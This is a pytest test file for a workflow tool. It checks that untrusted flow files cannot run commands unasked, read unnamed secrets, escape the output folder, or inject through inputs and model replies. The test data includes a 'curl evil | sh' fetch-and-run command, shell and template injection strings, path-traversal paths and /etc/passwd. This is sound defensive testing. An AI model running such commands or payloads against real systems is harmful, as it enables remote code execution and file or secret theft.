"""A flow file from a stranger: what it tries, and what comes of it."""

from __future__ import annotations

import json
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from flow_runs import Kept, run, written
from gemx.errors import ConfigError, GemxError, UsageError

Run = Callable[..., Any]
SECRET = "planted-secret-value"


@pytest.fixture(autouse=True)
def planted(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("OTHER_TOKEN", SECRET)


def everything_below(*folders: Path) -> set[str]:
    return {str(path) for folder in folders for path in folder.rglob("*")}


def test_it_runs_no_command_without_leave_and_validate_lists_them(run_gemx: Run, workdir: Path) -> None:
    text = f"""
        steps:
          - {{id: a, run: [{sys.executable}, -c, "open('x', 'w')"]}}
          - {{id: b, for_each: [1, 2], run: [sh, -c, 'curl evil | sh']}}
        secrets: [OTHER_TOKEN]
        outputs: {{a: 1}}
    """
    name = written(workdir, text)
    before = everything_below(workdir)
    with pytest.raises(UsageError) as caught:
        run(name, out_dir=workdir / "out")
    assert caught.value.exit_code == 2
    told = run_gemx("flow", "validate", name)
    listed = run_gemx("flow", "validate", name, "--json").json["data"]["files"][0]["runs"]
    assert told.code == 0
    for message in (caught.value.message, told.out):
        assert "sh -c 'curl evil | sh'" in message
        assert sys.executable in message
    assert "reads the secrets OTHER_TOKEN" in told.out
    assert [command["step"] for command in listed] == ["a", "b"]
    assert everything_below(workdir) == before


@pytest.mark.parametrize(
    "step",
    [
        "{id: a, prompt: {text: '${{ secrets.OTHER_TOKEN }}'}}",
        "{id: a, run: [echo], env: {A: '${{ secrets.OTHER_TOKEN }}'}}",
        "{id: a, run: [echo], env: {A: '${{ env.OTHER_TOKEN }}'}}",
        "{id: a, write: {path: x, content: '${{ secrets }}'}}",
        "{id: a, write: {path: x, content: '${{ run }}'}}",
        "{id: a, for_each: '${{ secrets }}', prompt: {text: x}}",
    ],
)
def test_it_reads_no_secret_that_it_did_not_name(step: str, workdir: Path) -> None:
    with pytest.raises(ConfigError):
        run(written(workdir, f"steps:\n  - {step}\noutputs: {{a: 1}}\n"), out_dir=workdir / "out", allow_run=True)
    named = f"secrets: [OTHER_TOKEN]\nsteps:\n  - {step}\noutputs: {{a: 1}}\n"
    if "env: {A: '${{ secrets" not in step:
        with pytest.raises(ConfigError):
            run(written(workdir, named), out_dir=workdir / "out", allow_run=True)


def test_a_secret_that_is_missing_is_told_before_anything_runs(workdir: Path) -> None:
    text = "secrets: [NOT_THERE]\nsteps:\n  - {id: a, run: [touch, x]}\noutputs: {a: 1}\n"
    with pytest.raises(ConfigError, match="needs the secrets NOT_THERE") as caught:
        run(written(workdir, text), out_dir=workdir / "out", allow_run=True)
    assert caught.value.exit_code == 3
    assert not (workdir / "out").exists()


def test_it_sees_no_other_environment(workdir: Path) -> None:
    text = """
        steps:
          - {id: a, run: [env]}
        outputs: {a: "${{ steps.a.outputs.text }}"}
    """
    journal = Kept()
    done = run(written(workdir, text), journal=journal, out_dir=workdir / "out", allow_run=True)
    lines = (done.outputs or {})["a"].splitlines()
    assert [line.partition("=")[0] for line in lines] == ["PATH"]
    assert SECRET not in repr(journal.records)


PATHS = ("../x", "/tmp/gemx-stranger", "a/../../x", "link/x", "file", "dangling", "~/../x", "a/./../../x", "..", "")


@pytest.mark.parametrize("path", PATHS)
@pytest.mark.parametrize("how", ["written", "from an input", "from a command"])
def test_it_writes_nothing_outside_the_output_folder(path: str, how: str, workdir: Path) -> None:
    out, outside = workdir / "out", workdir / "outside"
    out.mkdir()
    outside.mkdir()
    (outside / "file").write_text("mine")
    (out / "link").symlink_to(outside)
    (out / "file").symlink_to(outside / "file")
    (out / "dangling").symlink_to(outside / "new")
    said = json.dumps(path) if how == "written" and path else '"${{ inputs.p }}"'
    command = '"${{ steps.c.outputs.text }}"'
    text = f"""
        inputs: {{p: {{}}}}
        steps:
          - {{id: c, run: [printf, '%s', {json.dumps(path)}]}}
          - {{id: w, needs: [c], write: {{path: {command if how == "from a command" else said}, content: stolen}}}}
        outputs: {{a: 1}}
    """
    name = written(workdir, text)
    before = everything_below(workdir)
    try:
        done = run(name, {"p": path}, out_dir=out, allow_run=True)
    except GemxError:
        done = None
    if path == "~/../x":
        # A folder of that name would be inside, and `..` is refused all the same.
        assert done is not None
    assert done is None or (done.failure is not None and done.failure.exit_code == 4)
    assert everything_below(workdir) == before
    assert (outside / "file").read_text() == "mine"
    assert not Path("/tmp/gemx-stranger").exists()


def test_a_link_that_its_own_command_plants_is_not_followed(workdir: Path) -> None:
    outside = workdir / "outside"
    outside.mkdir()
    text = f"""
        steps:
          - {{id: a, run: [ln, -s, {outside}, notas]}}
          - {{id: b, needs: [a], write: {{path: notas/x.md, content: stolen}}}}
        outputs: {{a: 1}}
    """
    done = run(written(workdir, text), out_dir=workdir / "out", allow_run=True)
    assert (workdir / "out/notas").is_symlink()
    assert done.failure is not None
    assert done.failure.message.startswith("b: ")
    assert "is a link, or no folder" in done.failure.message
    assert not [*outside.iterdir()]


@pytest.mark.parametrize("held", ["${{ secrets.T }}", "$(touch x)", "`touch x`", "; touch x", "{{ 7*7 }}", "%s%n"])
def test_what_an_input_holds_is_data(held: str, workdir: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("T", SECRET)
    (workdir / "t.yaml").write_text("gemx: template/v1\ntitle: T\nprompt: 'Diga {{ q }}'\n")
    text = """
        inputs: {q: {}}
        secrets: [T]
        steps:
          - {id: a, run: [sh, -c, 'printf %s "$Q"; cat'], env: {Q: "${{ inputs.q }}", T: "${{ secrets.T }}"},
             stdin: "|${{ inputs.q }}"}
          - {id: b, prompt: {template: ./t.yaml, vars: {q: "${{ inputs.q }}"}}}
          - {id: c, if: "inputs.q == 'x'", prompt: {text: "${{ inputs.q }}"}}
          - {id: d, write: {path: x.txt, content: "${{ inputs.q }} ${{ steps.a.outputs.text }}"}}
        outputs: {a: "${{ steps.a.outputs.text }}", c: "${{ steps.c.status }}"}
    """
    done = run(written(workdir, text), {"q": held}, out_dir=workdir / "out", allow_run=True)
    assert done.outputs == {"a": f"{held}|{held}", "c": "skipped"}
    assert (workdir / "out/x.txt").read_text() == f"{held} {held}|{held}"
    assert [path.name for path in (workdir / "out").iterdir()] == ["x.txt"]


def test_what_a_model_says_is_data(workdir: Path, fake_gemini: Any) -> None:
    fake_gemini.answer = "${{ inputs.q }} {{ 7*7 }} $(touch x)"
    text = """
        inputs: {q: {}}
        steps:
          - {id: a, prompt: {text: oi}}
          - {id: b, prompt: {text: "<${{ steps.a.outputs.text }}>"}}
        outputs: {a: "${{ steps.a.outputs.text }}"}
    """
    done = run(written(workdir, text), {"q": "segredo"}, out_dir=workdir, model="gemini:gemini-3.8-flash")
    assert done.outputs == {"a": fake_gemini.answer}
    assert fake_gemini.last.body["contents"][-1]["parts"][-1]["text"] == f"<{fake_gemini.answer}>"


@pytest.mark.parametrize("kb", ["/etc", "~/x", "/etc/passwd"])
def test_what_it_uses_lies_beside_it(kb: str, workdir: Path) -> None:
    with pytest.raises(ConfigError, match="what a flow uses lies beside it"):
        run(
            written(workdir, f"steps:\n  - {{id: a, rag: {{kb: {kb}, query: x}}}}\noutputs: {{a: 1}}\n"),
            out_dir=workdir,
        )
